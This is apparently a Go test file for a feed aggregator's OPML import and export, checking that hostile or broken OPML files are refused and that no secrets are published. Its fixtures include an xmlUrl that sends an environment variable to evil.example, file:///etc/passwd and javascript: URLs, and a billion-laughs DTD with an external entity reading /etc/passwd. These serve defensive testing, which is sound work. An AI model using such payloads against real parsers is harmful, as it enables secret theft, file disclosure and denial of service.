package reliability

import (
	"context"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/netdigest/netdigest/config"
	"github.com/netdigest/netdigest/pipeline"
	"github.com/netdigest/netdigest/server"
	"github.com/netdigest/netdigest/store"
)

// opmlConfig is the config every import case starts from: one source and
// comments, so that "unchanged" means byte for byte.
const opmlConfig = `# Reliability: the config OPML files are imported into.
title: reliability
id: urn:netdigest:reliability
link: http://127.0.0.1/
sources:
  # The one source.
  - name: lwn
    url: https://lwn.net/headlines/rss
`

// opmlFile is one OPML file around the outlines given.
func opmlFile(outlines string) string {
	return "<?xml version=\"1.0\"?>\n<opml version=\"2.0\"><head><title>x</title></head><body>\n" + outlines + "\n</body></opml>\n"
}

// TestOPML gives hostile and broken OPML files to the built binary's
// `opml import`, and checks that the sources' OPML (served and exported)
// publishes no secret.
func TestOPML(t *testing.T) {
	section(t, secOPML)
	bin := buildBinary(t)
	importCmd := func(dir string, args ...string) *exec.Cmd {
		ctx, cancel := context.WithTimeout(context.Background(), watchdog)
		t.Cleanup(cancel)
		cmd := exec.CommandContext(ctx, bin, append([]string{"opml", "import", "-config", filepath.Join(dir, "feeds.yaml")}, args...)...)
		cmd.Dir = dir
		cmd.Env = append(os.Environ(), "NETDIGEST_TEST_SECRET=leaked")
		return cmd
	}

	manyFeeds := func(n int) string {
		var b strings.Builder
		for i := range n {
			fmt.Fprintf(&b, "<outline text=\"Feed number %d with a long title\" type=\"rss\" xmlUrl=\"https://feeds.example.org/a/long/path/%d/feed.xml\"/>\n", i, i)
		}
		return opmlFile(b.String())
	}

	tests := []struct {
		name, expected string
		opml           string
		// added: the feeds the config must hold after it (0: unchanged).
		added int
	}{
		{"xmlUrl with `${NAME}` in its query", "skipped and listed: the config would send that environment variable to the feed's host; config unchanged",
			opmlFile(`<outline text="Leak" type="rss" xmlUrl="https://evil.example/feed?x=${NETDIGEST_TEST_SECRET}"/>`), 0},
		{"xmlUrls file:///etc/passwd, javascript:, ftp:, relative", "each skipped and listed: only absolute http(s) URLs are added; config unchanged",
			opmlFile(`<outline text="a" xmlUrl="file:///etc/passwd"/><outline text="b" xmlUrl="javascript:alert(1)"/>` +
				`<outline text="c" xmlUrl="ftp://ftp.example/feed"/><outline text="d" xmlUrl="/feed.xml"/>`), 0},
		{"DOCTYPE declaring entities (billion laughs, external /etc/passwd)", "refused with the line of the first use: DTD entities are never expanded or fetched; config unchanged",
			"<?xml version=\"1.0\"?>\n<!DOCTYPE opml [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY x SYSTEM \"file:///etc/passwd\">]>\n" +
				"<opml version=\"2.0\"><body>\n<outline text=\"&b;&x;\" xmlUrl=\"https://a.example/feed\"/></body></opml>\n", 0},
		{"cut off mid-element", "refused with file:line; config unchanged",
			"<opml version=\"2.0\"><body>\n<outline text=\"a\" xmlUrl=\"https://a.example/feed\">\n<outline text=\"b\" xml", 0},
		{"an RSS feed given as OPML", "refused: not an OPML file, with the line; config unchanged",
			"<?xml version=\"1.0\"?>\n<rss version=\"2.0\"><channel><title>x</title></channel></rss>\n", 0},
		{"20 MiB file", "refused before parsing (16 MiB bound); config unchanged",
			opmlFile(strings.Repeat("<!-- padding -->", 20<<20/16)), 0},
		{"20,000 feeds (a config over 1 MiB)", "refused: the result would be larger than netdigest reads; config unchanged",
			manyFeeds(20000), 0},
		{"two feeds, one of them already configured", "one added, the configured one skipped; the config's text kept byte for byte",
			opmlFile(`<outline text="LWN" type="rss" xmlUrl="HTTPS://LWN.NET/headlines/rss"/><outline text="New" xmlUrl="https://new.example/feed"/>`), 1},
	}
	for i, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			rec := recordAt(t, i+1, secOPML, tt.name, tt.expected)
			dir := t.TempDir()
			writeFile(t, dir, "feeds.yaml", opmlConfig)
			file := writeFile(t, dir, "subs.opml", tt.opml)
			out, errOut, code := runCmd(t, importCmd(dir, file))
			after, err := os.ReadFile(filepath.Join(dir, "feeds.yaml"))
			if err != nil {
				t.Fatal(err)
			}
			cfg, err := config.Load(filepath.Join(dir, "feeds.yaml"))
			if err != nil {
				t.Fatalf("config after the import: %v", err)
			}
			switch {
			case tt.added == 0 && string(after) != opmlConfig:
				t.Errorf("config changed:\n%s", after)
			case tt.added > 0 && !strings.HasPrefix(string(after), opmlConfig):
				t.Errorf("config's own text changed:\n%s", after)
			case len(cfg.Sources) != 1+tt.added:
				t.Errorf("%d sources after the import, want %d", len(cfg.Sources), 1+tt.added)
			}
			if strings.Contains(string(after)+out+errOut, "leaked") {
				t.Errorf("the variable's value reached the config or the output")
			}
			// The report: its skipped lines and the summary, or the error.
			var lines []string
			for _, l := range strings.Split(strings.TrimSpace(out+errOut), "\n") {
				if strings.HasPrefix(l, "skipped") || strings.HasPrefix(l, "netdigest:") || strings.Contains(l, " added to ") {
					lines = append(lines, quote(strings.Join(strings.Fields(strings.ReplaceAll(l, file, "subs.opml")), " ")))
				}
			}
			if len(lines) == 0 {
				t.Errorf("nothing reported:\n%s%s", out, errOut)
			}
			state := "config unchanged"
			if tt.added > 0 {
				state = fmt.Sprintf("%d source added, the rest byte-identical", tt.added)
			}
			if len(lines) > 3 {
				lines = append(lines[:2], fmt.Sprintf("(%d more)", len(lines)-2))
			}
			rec.res("exit %d, %s: %s", code, state, strings.Join(lines, "; "))
		})
	}
}

// TestOPMLSecrets: the sources' OPML, served by the daemon and written by
// `opml export`, over the secrets config of TestSecrets.
func TestOPMLSecrets(t *testing.T) {
	t.Setenv(secretEnv, secretToken)
	dir := t.TempDir()
	writeFile(t, dir, "feeds.yaml", secretsConfig("http://127.0.0.1:9"))
	published := []string{"S3cretPass", secretToken, "user:", "user@", "token=", dir, "file://", "private.xml"}

	t.Run("export", func(t *testing.T) {
		rec := recordAt(t, 50, secSecrets, "`netdigest opml export`", "each source's public URL only; a snapshot without base is named only")
		cmd := exec.Command(buildBinary(t), "opml", "export", "-config", filepath.Join(dir, "feeds.yaml"))
		out, errOut, code := runCmd(t, cmd)
		if code != 0 {
			t.Fatalf("exit %d: %s", code, errOut)
		}
		cleanResult(t, rec, "opml export", out, published, fmt.Sprintf("; %d outlines, xmlUrl `%s`", strings.Count(out, "<outline"),
			stable("http://127.0.0.1:9/feed.json")))
	})

	t.Run("served", func(t *testing.T) {
		rec := recordAt(t, 51, secSecrets, "`GET /sources.opml`", "the same file as `opml export`")
		cfg, err := config.Load(filepath.Join(dir, "feeds.yaml"))
		if err != nil {
			t.Fatal(err)
		}
		st, err := store.Open(context.Background(), filepath.Join(dir, "netdigest.db"), nil)
		if err != nil {
			t.Fatal(err)
		}
		defer st.Close()
		h, err := server.New(server.Deps{Config: cfg, Runner: &pipeline.Runner{Config: cfg, Store: st}})
		if err != nil {
			t.Fatal(err)
		}
		srv := httptest.NewServer(h)
		defer srv.Close()
		res, err := http.Get(srv.URL + "/sources.opml")
		if err != nil {
			t.Fatal(err)
		}
		body, _ := io.ReadAll(res.Body)
		res.Body.Close()
		if res.StatusCode != http.StatusOK {
			t.Fatalf("GET /sources.opml: %s", res.Status)
		}
		names := slices.Collect(func(yield func(string) bool) {
			for _, s := range cfg.Sources {
				if !strings.Contains(string(body), `text="`+s.Name+`"`) && !yield(s.Name) {
					return
				}
			}
		})
		if len(names) > 0 {
			t.Errorf("sources missing from /sources.opml: %v", names)
		}
		cleanResult(t, rec, "/sources.opml", string(body), published, fmt.Sprintf("; all %d sources listed", len(cfg.Sources)))
	})
}
